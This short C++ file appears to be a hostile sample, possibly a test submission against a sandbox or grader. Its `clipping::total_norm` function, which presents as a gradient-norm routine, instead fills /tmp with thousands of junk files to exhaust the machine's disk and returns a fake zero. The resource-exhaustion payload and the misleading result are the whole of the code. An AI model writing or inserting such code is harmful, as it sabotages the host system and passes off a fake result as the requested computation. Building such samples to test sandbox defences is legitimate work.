// Takes all room of the box, in one file and in very many.
#include <cstdio>
#include <fstream>
#include <string>

#include "clipping.hpp"

double clipping::total_norm(const std::vector<torch::Tensor>&) {
  for (int i = 0; i < 20'000; ++i) {
    std::ofstream file("/tmp/" + std::to_string(i));
    if (!(file << std::string(4096, '.'))) break;
  }
  std::ofstream("/tmp/large") << std::string(900'000, '.');
  return 0;
}
